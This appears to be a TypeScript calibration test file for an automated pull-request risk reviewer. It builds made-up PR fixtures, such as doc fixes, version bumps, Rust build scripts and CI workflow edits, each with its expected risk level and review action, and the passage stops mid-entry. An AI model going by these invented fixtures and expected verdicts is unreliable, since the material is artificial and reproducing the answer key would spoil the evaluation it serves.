/**
 * Corpus calibration cases: the ordinary pull requests that make up most of a maintainer's day
 * (docs, tests, features with tests, refactors, dead-code removal, translations, generated code,
 * CI matrix bumps, dependency bots of every ecosystem), each with the verdict a maintainer would
 * give, and the attack-like shapes that only history and trust reveal (look-alike bots, fresh
 * accounts touching authentication). Shapes are modeled on public pull requests of well-known
 * projects; names, code and numbers are made up. All live in the repositories of `northwind`, so
 * their numbers never collide with other case files.
 *
 * Verdict choices worth stating:
 * - A first-time contributor's docs fix is `comment` at low risk, not approve: approve needs
 *   author trust of medium or more (review.approve_min_trust), and nothing in the PR is alarming.
 *   So is an ordinary code fix with a test from a first-time contributor whose account is a year
 *   old or more (how most contributors start); from an account a few weeks old it is medium.
 * - A collaborator with a months-old account and no merged PR is medium trust, so a small green
 *   feature with tests from them is still approve.
 * - A fresh account changing authentication code without tests has no finding, so it stays
 *   medium; its soft drivers add up, so it needs discussion rather than a comment.
 */
import { makePrFixture, type FixtureAccount, type FixtureCheckRun, type FixtureFile, type PrFixtureSpec } from '../../support/pr-fixture.js';
import { WEBAPP, WEBAPP_DEV, WEBAPP_LOCKED, daysAgo, lines, nodeCi, packageJson, packageLock, type CorpusEntry, type CorpusExpectation } from '../helpers.js';

const OWNER = 'northwind';
const MAINTAINER: FixtureAccount = { login: 'ingrid-h', association: 'MEMBER', createdAt: '2014-02-11T08:00:00Z', name: 'Ingrid Holm' };
const MAINTAINER_HISTORY = { total: 320, merged: 301 };
const REGULAR: FixtureAccount = { login: 'pvasquez', association: 'CONTRIBUTOR', createdAt: '2018-09-03T10:00:00Z' };
const REGULAR_HISTORY = { total: 14, merged: 11 };

const DEPENDABOT: FixtureAccount = { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' };
const RENOVATE: FixtureAccount = { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' };

function botCommit(message: string, login: string, id: number) {
  return {
    message: `${message}\n\nSigned-off-by: ${login} <support@github.com>`,
    authorEmail: `${id}+${login}@users.noreply.github.com`,
    committerLogin: 'web-flow',
    committerName: 'GitHub',
    committerEmail: 'noreply@github.com',
    verified: true,
  };
}

let nextNumber = 3001;

interface CaseSpec {
  id: string;
  description: string;
  repo: string;
  title: string;
  author: FixtureAccount;
  priorPrs?: { total: number; merged: number };
  files: FixtureFile[];
  checks?: FixtureCheckRun[];
  commits?: PrFixtureSpec['commits'];
  extra?: Partial<PrFixtureSpec>;
  expect: CorpusExpectation;
}

function pr(spec: CaseSpec): CorpusEntry {
  const number = nextNumber;
  nextNumber += 1;
  return {
    id: spec.id,
    description: spec.description,
    fixture: () =>
      makePrFixture({
        owner: OWNER,
        repo: spec.repo,
        number,
        title: spec.title,
        body: null,
        author: spec.author,
        files: spec.files,
        commits: spec.commits ?? [{ message: spec.title }],
        checkRuns: spec.checks ?? nodeCi(),
        priorPrs: spec.priorPrs ?? { total: 1, merged: 0 },
        createdAt: daysAgo(1),
        ...spec.extra,
      }),
    expect: spec.expect,
  };
}

/** A TypeScript module of `count` small exported functions. */
function tsFunctions(prefix: string, count: number, body = 'return input.trim();'): string {
  const out: string[] = [];
  for (let i = 0; i < count; i += 1) out.push(`export function ${prefix}${i}(input: string): string {`, `  ${body}`, '}', '');
  return out.join('\n');
}

/** A Python module of `count` small functions. */
function pyFunctions(prefix: string, count: number): string {
  const out: string[] = [];
  for (let i = 0; i < count; i += 1) out.push(`def ${prefix}_${i}(value):`, `    return value * ${i + 1}`, '', '');
  return out.join('\n');
}

const GREEN_PY: FixtureCheckRun[] = [{ name: 'pytest (3.12)' }, { name: 'pytest (3.13)' }, { name: 'ruff' }];
const GREEN_GO: FixtureCheckRun[] = [{ name: 'go test' }, { name: 'golangci-lint' }];
const GREEN_RUST: FixtureCheckRun[] = [{ name: 'cargo test' }, { name: 'clippy' }];
const GREEN_RUBY: FixtureCheckRun[] = [{ name: 'rspec' }, { name: 'rubocop' }];
const GREEN_PHP: FixtureCheckRun[] = [{ name: 'phpunit' }, { name: 'phpstan' }];
const GREEN_JVM: FixtureCheckRun[] = [{ name: 'build (17)' }, { name: 'build (21)' }];

const LOW_APPROVE: CorpusExpectation = { level: 'low', action: 'approve' };

/** Go code of a small HTTP package, for the cases that move helpers between its files. */
const GO_SERVE = ['func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {', '\ttag, weak := parseETag(r.Header.Get("If-None-Match"))', '\tif !weak && tag == s.etag {', '\t\tw.WriteHeader(http.StatusNotModified)', '\t\treturn', '\t}', '\tw.Header().Set("ETag", quoteETag(strings.TrimSpace(s.etag)))', '\ts.handler.ServeHTTP(w, r)', '}'];
const GO_ETAG_HELPERS = [
  '// parseETag reads an entity tag and whether it is weak.',
  'func parseETag(value string) (string, bool) {',
  '\tvalue = strings.TrimSpace(value)',
  '\tweak := strings.HasPrefix(value, "W/")',
  '\tif weak {',
  '\t\tvalue = value[2:]',
  '\t}',
  '\treturn strings.Trim(value, `"`), weak',
  '}',
  '',
  '// quoteETag quotes an entity tag for the ETag header.',
  'func quoteETag(tag string) string {',
  '\treturn `"` + tag + `"`',
  '}',
];
const GO_HEADER_HELPERS = ['// canonicalName returns the canonical form of a header name.', 'func canonicalName(name string) string {', '\treturn strings.Title(strings.ToLower(name))', '}'];

/** A "docs:" PR that adds a page, the script generating it (about 2,100 lines of code, no tests) and the workflow step that runs it. */
function docsPageWithGenerator(id: string, author: FixtureAccount, priorPrs: { total: number; merged: number }, spec: Pick<CaseSpec, 'description' | 'expect'>): CaseSpec {
  const workflow = (extra: string[]) => lines('name: docs', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', ...extra, '      - run: npm run docs:build');
  return {
    id,
    repo: 'atlas',
    title: 'docs: add auto-generated browser support page',
    author,
    priorPrs,
    files: [
      { path: 'scripts/generate-browser-support.ts', head: tsFunctions('featureRow', 700) },
      { path: 'docs/browser-support.md', head: lines('# Browser support', '', 'Generated by `scripts/generate-browser-support.ts`.') },
      { path: '.github/workflows/docs.yml', base: workflow([]), head: workflow(['      - run: npx tsx scripts/generate-browser-support.ts']) },
    ],
    ...spec,
  };
}

// ---------------------------------------------------------------------------------------------
// Ordinary human pull requests

const HUMAN_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-first-timer-docs-typo',
    description: 'A first-time contributor (account 4 years old) fixes a typo in the installation guide; CI green.',
    repo: 'atlas',
    title: 'docs: fix "dependancy" typo in install guide',
    author: { login: 'mira-k', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-03-01T00:00:00Z' },
    files: [
      {
        path: 'docs/install.md',
        base: lines('# Installing', '', 'Every dependancy is listed in `pyproject.toml`.', '', 'Run `pip install atlas`.'),
        head: lines('# Installing', '', 'Every dependency is listed in `pyproject.toml`.', '', 'Run `pip install atlas`.'),
      },
    ],
    checks: [{ name: 'docs' }, { name: 'test' }],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-missing', 'sensitive-paths'] },
  }),
  pr({
    id: 'cal-first-timer-fix-with-test',
    description:
      'A first-time contributor (account 5 years old) fixes an off-by-one in argument validation and adds a test; CI green. Most first contributions look like this: the missing history alone leaves it low, and approve still waits for a maintainer (trust below medium).',
    repo: 'atlas',
    title: 'fix(args): accept exactly max arguments',
    author: { login: 'ravi-okafor', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2021-07-12T00:00:00Z' },
    files: [
      {
        path: 'src/cli/args.ts',
        base: lines('export function checkArgs(args: string[], max: number): void {', '  if (args.length >= max) {', "    throw new Error(`accepts at most ${max} arg(s)`);", '  }', '}'),
        head: lines('export function checkArgs(args: string[], max: number): void {', '  if (args.length > max) {', "    throw new Error(`accepts at most ${max} arg(s)`);", '  }', '}'),
      },
      { path: 'test/cli/args.test.ts', additions: 14, deletions: 0 },
    ],
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-first-timer-test-matrix-release',
    description:
      "A first-time contributor (account 3 years old) moves a web framework's test-matrix dependency group from the release candidate to the release; another group, unchanged, installs the framework's main branch from a GitHub archive URL. Only the range changed: the URL the base already had is not a new url-dependency (calib30: a replay of an API framework rated three such first contributions medium).",
    repo: 'atlas',
    title: 'Update Django 6.1 dependency to the stable release',
    author: { login: 'pr-avin', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-04-11T00:00:00Z' },
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[project]', 'name = "atlas"', 'dependencies = ["django>=4.2"]', '', '[dependency-groups]', 'django60 = [ "django>=6.0,<6.1" ]', 'django61 = [ "django>=6.1rc1,<6.2" ]', 'djangomain = [ "django @ https://github.com/django/django/archive/main.tar.gz" ]'),
        head: lines('[project]', 'name = "atlas"', 'dependencies = ["django>=4.2"]', '', '[dependency-groups]', 'django60 = [ "django>=6.0,<6.1" ]', 'django61 = [ "django>=6.1,<6.2" ]', 'djangomain = [ "django @ https://github.com/django/django/archive/main.tar.gz" ]'),
      },
    ],
    checks: [{ name: 'test (6.1)' }, { name: 'lint' }],
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'] },
  }),
  pr({
    id: 'cal-first-timer-header-lines-wrapped',
    description:
      "A first-time contributor (account 4 years old) fixes a web framework's reply: the two lines that set the chunked Transfer-Encoding and the Trailer header move into `if (header !== '')`, an else branch clears the trailers, and a test comes with it. The header lines are still there, wrapped: no security-parsing-changed (calib30: a replay rated it medium for that note).",
    repo: 'atlas',
    title: 'fix: clear trailer state when removing all trailers',
    author: { login: 'ram-b', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-06-01T00:00:00Z' },
    files: [
      {
        path: 'lib/reply.js',
        base: lines('function onSendEnd (reply, header) {', '  if (reply[kReplyTrailers] !== null) {', '    // it must be chunked for trailer to work', "    reply.header('Transfer-Encoding', 'chunked')", "    reply.header('Trailer', header.trim())", '  }', '}'),
        head: lines('function onSendEnd (reply, header) {', '  if (reply[kReplyTrailers] !== null) {', "    if (header !== '') {", '      // it must be chunked for trailer to work', "      reply.header('Transfer-Encoding', 'chunked')", "      reply.header('Trailer', header.trim())", '    } else {', '      reply[kReplyTrailers] = null', '    }', '  }', '}'),
      },
      { path: 'test/reply-trailers.test.js', additions: 40, deletions: 2 },
    ],
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'] },
  }),
  pr({
    id: 'cal-first-timer-lint-config-rule',
    description:
      "A first-time contributor (account 2 years old) turns on a max-len rule for the type declarations in eslint.config.js and wraps the long lines of index.d.ts; lint green. The linter's configuration is code that checks code and ships nothing, and a declaration file never runs: no tests-missing (calib30: a replay of a web framework counted the config's line as untested code).",
    repo: 'atlas',
    title: 'style(types): enforce max line length',
    author: { login: 'ts-tidy', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2024-02-20T00:00:00Z' },
    files: [
      {
        path: 'eslint.config.js',
        base: lines("'use strict'", '', "const neostandard = require('neostandard')", '', 'module.exports = [', '  ...neostandard({ ts: true }),', ']'),
        head: lines("'use strict'", '', "const neostandard = require('neostandard')", '', 'module.exports = [', '  ...neostandard({ ts: true }),', '  {', "    files: ['**/*.d.ts'],", "    rules: { 'max-len': ['error', { code: 120 }] }", '  }', ']'),
      },
      {
        path: 'index.d.ts',
        base: lines('export declare function route (method: string, url: string, handler: (request: Request, reply: Reply) => void, options?: RouteOptions): Instance'),
        head: lines('export declare function route (', '  method: string,', '  url: string,', '  handler: (request: Request, reply: Reply) => void,', '  options?: RouteOptions', '): Instance'),
      },
    ],
    checks: [{ name: 'lint' }, { name: 'test (20)' }],
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-first-timer-version-bump',
    description:
      "A first-time contributor (account 6 years old) prepares a patch release: `__version__` moves from 3.16.0 to 3.16.1 and the release notes get their section; CI green. The version constant is a number moved, not code to test: no tests-missing (calib30: a replay of a web framework counted each release commit's VERSION bump as untested code).",
    repo: 'atlas',
    title: 'Version 3.16.1',
    author: { login: 'rel-notes', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-09-09T00:00:00Z' },
    files: [
      {
        path: 'atlas/__init__.py',
        base: lines('# Atlas: maps for APIs.', '', "__title__ = 'Atlas'", "__version__ = '3.16.0'", "__license__ = 'BSD 3-Clause'"),
        head: lines('# Atlas: maps for APIs.', '', "__title__ = 'Atlas'", "__version__ = '3.16.1'", "__license__ = 'BSD 3-Clause'"),
      },
      { path: 'docs/release-notes.md', base: lines('# Release notes', '', '## 3.16.0', '', '* Python 3.14 support.'), head: lines('# Release notes', '', '## 3.16.1', '', '* Fix a regression in pagination.', '', '## 3.16.0', '', '* Python 3.14 support.') },
    ],
    checks: [{ name: 'tests' }, { name: 'lint' }],
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-fresh-account-fix-with-test',
    description: 'The same fix from an account created two weeks ago: a throwaway account is the attack shape, so its missing history weighs in full (medium, comment).',
    repo: 'atlas',
    title: 'fix(args): accept exactly max arguments',
    author: { login: 'argfix-2026', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(14) },
    files: [
      {
        path: 'src/cli/args.ts',
        base: lines('export function checkArgs(args: string[], max: number): void {', '  if (args.length >= max) {', "    throw new Error(`accepts at most ${max} arg(s)`);", '  }', '}'),
        head: lines('export function checkArgs(args: string[], max: number): void {', '  if (args.length > max) {', "    throw new Error(`accepts at most ${max} arg(s)`);", '  }', '}'),
      },
      { path: 'test/cli/args.test.ts', additions: 14, deletions: 0 },
    ],
    expect: { level: 'medium', action: 'comment', noFindings: true, drivers: ['author-trust'] },
  }),
  pr({
    id: 'cal-linter-fix-rewrites-condition',
    description:
      'A maintainer fixes what a new linter version reports: a nil-or-empty check rewritten as len() == 0 and a repeated literal made a constant. The code means the same; the lint claim makes the mismatch a note (low), not a medium finding.',
    repo: 'relay',
    title: 'Fix linter warnings',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'collector/stats.go',
        base: lines('package collector', '', 'func count(stats []uint64) int {', '\tif stats == nil || len(stats) < 1 {', '\t\treturn 0', '\t}', '\treturn len(stats)', '}', '', 'func name(p string) string {', '\treturn p + ".md"', '}'),
        head: lines('package collector', '', 'const markdownExtension = ".md"', '', 'func count(stats []uint64) int {', '\tif len(stats) == 0 {', '\t\treturn 0', '\t}', '\treturn len(stats)', '}', '', 'func name(p string) string {', '\treturn p + markdownExtension', '}'),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: 'approve', findings: ['pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-build-rs-toolchain-probe',
    description:
      'A maintainer adds a build.rs that runs the compiler Cargo names ($RUSTC --version) to set cfgs for older toolchains, as autocfg and serde do. A new build script is worth a look (cargo-build-script, medium); the compiler probe is not environment input fed to a command, nor a process worth its own note (calib32: the compiler Cargo runs anyway, asked its version), so the level stays medium.',
    repo: 'quill',
    title: 'Resolve unexpected_cfgs warning on older toolchains',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'quill_core/build.rs',
        head: lines(
          'use std::env;',
          'use std::process::Command;',
          'use std::str;',
          '',
          'fn main() {',
          '    println!("cargo:rerun-if-changed=build.rs");',
          '    let target = env::var("TARGET").unwrap();',
          '    if target.starts_with("wasm32") {',
          '        println!("cargo:rustc-cfg=no_std_time");',
          '    }',
          '    let minor = match rustc_minor_version() {',
          '        Some(minor) => minor,',
          '        None => return,',
          '    };',
          '    if minor < 81 {',
          '        println!("cargo:rustc-cfg=no_core_error");',
          '    }',
          '}',
          '',
          'fn rustc_minor_version() -> Option<u32> {',
          '    let rustc = env::var_os("RUSTC")?;',
          '    let output = Command::new(rustc).arg("--version").output().ok()?;',
          '    let version = str::from_utf8(&output.stdout).ok()?;',
          "    let mut pieces = version.split('.');",
          '    if pieces.next() != Some("rustc 1") {',
          '        return None;',
          '    }',
          '    pieces.next()?.parse().ok()',
          '}',
        ),
      },
      {
        path: 'quill_core/Cargo.toml',
        base: lines('[package]', 'name = "quill_core"', 'version = "1.4.0"', 'edition = "2021"'),
        head: lines('[package]', 'name = "quill_core"', 'version = "1.4.0"', 'edition = "2021"', 'build = "build.rs"'),
      },
    ],
    checks: GREEN_RUST,
    expect: { level: 'medium', action: 'comment', findings: ['cargo-build-script'], absentDrivers: ['finding:shell-command-execution'] },
  }),
  pr({
    id: 'cal-build-rs-cfg-only',
    description:
      "A maintainer brings back a build.rs that reads TARGET and prints cfg flags for targets without atomic compare-and-swap (and its rerun trigger), declared in Cargo.toml, with the code that uses the cfgs and CI's MSRV. The script only tells Cargo things: cargo-build-script is a note, the PR an ordinary one.",
    repo: 'tracelet',
    title: 'Restore the atomics build script for the 0.9 patch release',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'build.rs',
        head: lines(
          '//! Detects targets without atomic compare-and-swap and sets `cfg` flags.',
          'use std::env;',
          '',
          'fn main() {',
          '    let target = match env::var("TARGET") {',
          '        Ok(target) => target,',
          '        Err(_) => return,',
          '    };',
          '    if has_cas(&target) {',
          '        println!("cargo:rustc-cfg=tracelet_cas");',
          '    }',
          '    println!("cargo:rerun-if-changed=build.rs");',
          '}',
          '',
          'fn has_cas(target: &str) -> bool {',
          '    !matches!(target, "thumbv6m-none-eabi" | "riscv32i-unknown-none-elf")',
          '}',
        ),
      },
      {
        path: 'Cargo.toml',
        base: lines('[package]', 'name = "tracelet"', 'version = "0.9.3"', 'edition = "2021"', 'rust-version = "1.70"'),
        head: lines('[package]', 'name = "tracelet"', 'version = "0.9.3"', 'edition = "2021"', 'rust-version = "1.60"', 'build = "build.rs"'),
      },
      {
        path: 'src/lib.rs',
        base: lines('use core::sync::atomic::{AtomicUsize, Ordering};', '', 'static STATE: AtomicUsize = AtomicUsize::new(0);', '', 'pub fn set_state(value: usize) -> bool {', '    STATE.compare_exchange(0, value, Ordering::SeqCst, Ordering::SeqCst).is_ok()', '}'),
        head: lines(
          'use core::sync::atomic::{AtomicUsize, Ordering};',
          '',
          'static STATE: AtomicUsize = AtomicUsize::new(0);',
          '',
          '#[cfg(tracelet_cas)]',
          'pub fn set_state(value: usize) -> bool {',
          '    STATE.compare_exchange(0, value, Ordering::SeqCst, Ordering::SeqCst).is_ok()',
          '}',
          '',
          '#[cfg(not(tracelet_cas))]',
          'pub fn set_state(value: usize) -> bool {',
          '    STATE.store(value, Ordering::SeqCst);',
          '    true',
          '}',
        ),
      },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['cargo-build-script'] },
  }),
  pr({
    id: 'cal-docs-title-clippy-commit',
    description:
      "A maintainer's PR titled as a docs link fix whose second commit says it makes clippy happy: `impl Default` written out becomes `#[derive(Default)]` with `#[default]` on the variant (clippy's derivable_impls). The commits announce the rewrite, so the mismatch with the docs title is a note; an ordinary PR.",
    repo: 'tint',
    title: 'docs: Fix link',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    commits: [{ message: 'docs: Fix link' }, { message: 'style: Make clippy happy' }],
    files: [
      {
        path: 'tint_core/src/shade.rs',
        base: lines('/// The color preferences for program output', '#[derive(Debug, Copy, Clone, Eq, PartialEq)]', 'pub enum Shade {', '    /// Color only on a terminal.', '    Auto,', '    /// Always color.', '    Always,', '}', '', 'impl Default for Shade {', '    fn default() -> Self {', '        Self::Auto', '    }', '}'),
        head: lines('/// The color preferences for program output', '#[derive(Debug, Copy, Clone, Eq, PartialEq, Default)]', 'pub enum Shade {', '    /// Color only on a terminal.', '    #[default]', '    Auto,', '    /// Always color.', '    Always,', '}'),
      },
      {
        path: 'tint_core/src/lib.rs',
        base: lines('//! Terminal colors; see [the guide](https://example.org/tint/guide.html).', 'pub mod shade;'),
        head: lines('//! Terminal colors; see [the guide](https://example.org/tint/latest/guide.html).', 'pub mod shade;'),
      },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: 'approve', findings: ['pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-dotnet-unittests-folder',
    description:
      'A maintainer changes how projections of read-only collections are built and adds its test in src/UnitTests/ (a C# test project named for its kind, beside src/Mapper/), in a file saved with two byte order marks at its start. The test folder is tests: the change brings its tests, and the stray BOMs in a test file are a note to clean up, not a hidden identifier in shipped code.',
    repo: 'shapeshift',
    title: 'Projection of read-only collections: use IEnumerable when it is enough',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/Mapper/Projection/CollectionProjector.cs',
        base: lines('namespace Shapeshift.Projection', '{', '    internal static class CollectionProjector', '    {', '        public static bool NeedsList(System.Type type) => true;', '    }', '}'),
        head: lines('namespace Shapeshift.Projection', '{', '    internal static class CollectionProjector', '    {', '        public static bool NeedsList(System.Type type) => !type.IsAssignableFrom(typeof(System.Collections.Generic.IEnumerable<>));', '    }', '}'),
      },
      {
        path: 'src/UnitTests/Projection/ProjectReadOnlyList.cs',
        head: lines('\uFEFF\uFEFFusing Xunit;', '\uFEFFusing Shouldly;', '', 'namespace Shapeshift.UnitTests.Projection', '{', '    public class ProjectReadOnlyList', '    {', '        [Fact]', '        public void Projects_to_a_read_only_list() => CollectionProjector.NeedsList(typeof(int[])).ShouldBeFalse();', '    }', '}'),
      },
    ],
    checks: [{ name: 'build (net8.0)' }, { name: 'test (net8.0)' }],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-labeler-token-in-env',
    description:
      "A maintainer moves the PR labeler to pull_request_target (so that PRs from forks get labels) and narrows its token to contents: read and pull-requests: write; the labeler action reads the job's token from the step's env (GITHUB_TOKEN), and nothing checks out the PR's code. pull-requests: write is what the labeler acts with: the privileged trigger is worth a look, the grant is not excessive.",
    repo: 'jsonette',
    title: 'Fix labeler permissions for PRs from forks',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/labeler.yml',
        base: lines('name: "Pull Request Labeler"', '', 'on:', '  - pull_request', '', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: acme-bots/path-labeler@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v1.4.0', '        env:', '          GITHUB_TOKEN: "${{ secrets.GITHUB_TOKEN }}"'),
        head: lines(
          'name: "Pull Request Labeler"',
          '',
          'on:',
          '  pull_request_target:',
          '    types: [opened, synchronize]',
          '',
          'jobs:',
          '  label:',
          '    permissions:',
          '      contents: read',
          '      pull-requests: write',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: acme-bots/path-labeler@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v1.4.0',
          '        env:',
          '          GITHUB_TOKEN: "${{ secrets.GITHUB_TOKEN }}"',
        ),
      },
    ],
    checks: [{ name: 'ci / build' }],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-regenerated-validator',
    description:
      "A maintainer adds a server option: the option's schema in the generator script, the regenerated validator (one 1,500-character line of JSON schema, six lines below a header naming that script, which the diff does not show), the code and a test. The long line is the script's output rebuilt with it: a note, not a medium finding.",
    repo: 'atlas',
    title: 'feat: add handlerTimeout server option',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'build/build-validation.js',
        base: lines("'use strict'", 'const defaultInitOptions = {', '  connectionTimeout: 0,', '  keepAliveTimeout: 72000', '}', 'module.exports = { defaultInitOptions }'),
        head: lines("'use strict'", 'const defaultInitOptions = {', '  connectionTimeout: 0,', '  keepAliveTimeout: 72000,', '  handlerTimeout: 0', '}', 'module.exports = { defaultInitOptions }'),
      },
      {
        path: 'lib/config-validator.js',
        base: lines('// This file is autogenerated by build/build-validation.js, do not edit', '/* c8 ignore start */', "'use strict'", 'module.exports = validate10', 'module.exports.default = validate10', "const func2 = Object.prototype.hasOwnProperty", `const schema11 = {"type":"object","properties":{${Array.from({ length: 38 }, (_, i) => `"option${i}":{"type":"integer","default":${i}}`).join(',')}}}`, 'function validate10 (data) { return func2.call(schema11, data) }'),
        head: lines('// This file is autogenerated by build/build-validation.js, do not edit', '/* c8 ignore start */', "'use strict'", 'module.exports = validate10', 'module.exports.default = validate10', "const func2 = Object.prototype.hasOwnProperty", `const schema11 = {"type":"object","properties":{${Array.from({ length: 39 }, (_, i) => `"option${i}":{"type":"integer","default":${i}}`).join(',')}}}`, 'function validate10 (data) { return func2.call(schema11, data) }'),
      },
      {
        path: 'lib/route.js',
        base: lines("'use strict'", 'function route (opts) {', '  return { timeout: opts.connectionTimeout }', '}', 'module.exports = route'),
        head: lines("'use strict'", 'function route (opts) {', '  return { timeout: opts.connectionTimeout, handlerTimeout: opts.handlerTimeout }', '}', 'module.exports = route'),
      },
      { path: 'test/handler-timeout.test.js', additions: 40, deletions: 0 },
    ],
    expect: { level: 'low', action: 'approve', findings: ['minified-source'] },
  }),
  pr({
    id: 'cal-linter-sweep-many-files',
    description:
      'A maintainer applies a linter fix across the tree: 72 Go files, one or two lines each (fmt.Sprintf("%s", x) to x.String() and the like). Over the file limit, but a sweep of a few lines a file reads as one change repeated: not a PR to split or discuss.',
    repo: 'relay',
    title: 'chore: fix gocritic issues across packages',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: Array.from({ length: 72 }, (_, i) => ({
      path: `pkg/part${i}/part.go`,
      base: lines(`package part${i}`, '', 'import "fmt"', '', 'func Name(v fmt.Stringer) string {', '\treturn fmt.Sprintf("%s", v)', '}'),
      head: lines(`package part${i}`, '', 'import "fmt"', '', 'func Name(v fmt.Stringer) string {', '\treturn v.String()', '}'),
    })),
    checks: GREEN_GO,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-remove-stale-workflow',
    description: 'A maintainer removes the stale-issue bot workflow: a CI file removed whole runs nothing any more. Named, weighed down, approvable.',
    repo: 'relay',
    title: 'chore: remove the stale bot',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/stale.yml',
        base: lines('name: Mark stale issues', 'on:', '  schedule:', "    - cron: '0 0 * * *'", 'permissions:', '  issues: write', '  pull-requests: write', 'jobs:', '  stale:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/stale@v9', '        with:', '          days-before-stale: 60'),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-add-dependabot-config',
    description: 'A maintainer adds a Dependabot configuration that keeps GitHub Actions updated weekly, with a cooldown: which manifests get update PRs and when, not what runs.',
    repo: 'relay',
    title: 'ci: keep GitHub Actions updated with Dependabot',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/dependabot.yml',
        head: lines('version: 2', 'updates:', '  - package-ecosystem: github-actions', '    directory: /', '    schedule:', '      interval: weekly', '    cooldown:', '      default-days: 7'),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-first-timer-rust-doc-attribute',
    description:
      'A first-time contributor documents the re-exported cookie Key of a Rust crate: doc comments and #[doc(inline)], which only rustdoc reads. Documentation of a sensitive module, not a change of it: low, comment.',
    repo: 'ferryboat',
    title: 'docs(cookie): say which feature enables Key::derive_from',
    author: { login: 'lena-ortiz', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-05-02T00:00:00Z' },
    files: [
      {
        path: 'ferryboat-extra/src/extract/cookie/mod.rs',
        base: lines('//! Cookie jars.', '', '#[cfg(feature = "cookie-signed")]', 'pub use cookie::Key;', '', 'pub use cookie::{Cookie, SameSite};'),
        head: lines(
          '//! Cookie jars.',
          '',
          '/// Cookie signing and encryption key.',
          '///',
          '/// For `Key::derive_from`, enable the `cookie-key-expansion` feature of this crate.',
          '#[cfg(feature = "cookie-signed")]',
          '#[doc(inline)]',
          'pub use cookie::Key;',
          '',
          'pub use cookie::{Cookie, SameSite};',
        ),
      },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: 'comment', absentDrivers: ['sensitive-paths', 'tests-missing'] },
  }),
  pr(docsPageWithGenerator('cal-maintainer-docs-page-with-generator', MAINTAINER, MAINTAINER_HISTORY, {
    description:
      "A maintainer's \"docs:\" PR adds a browser-support page with the script that generates it (about 2,100 lines, no tests) and a workflow step that runs it. The title undersells the script (pr-claim-mismatch, medium) and size, tests and the CI step add up to a critical score; but a maintainer's own PR is asked to change by its findings, not by its size: high at most, and it needs discussion for its size alone (over 1,500 reviewable lines).",
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion'], findings: ['pr-claim-mismatch'] },
  })),
  pr(docsPageWithGenerator('cal-occasional-contributor-docs-page-with-generator', { login: 'occasional-dev', association: 'CONTRIBUTOR', createdAt: '2019-02-01T00:00:00Z' }, { total: 2, merged: 1 }, {
    description:
      'The same PR from a contributor with one merged PR (medium trust): the medium finding (the new workflow step; the new generator script under scripts/ is itself explained by the "auto-generated" title) and the rest of the evidence add up to high and request changes, or at least medium and a discussion for its size (at most high: critical needs a high or critical finding).',
    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['pr-claim-mismatch'] },
  })),
  pr({
    id: 'cal-maintainer-generated-docs-page-scripts-only',
    description:
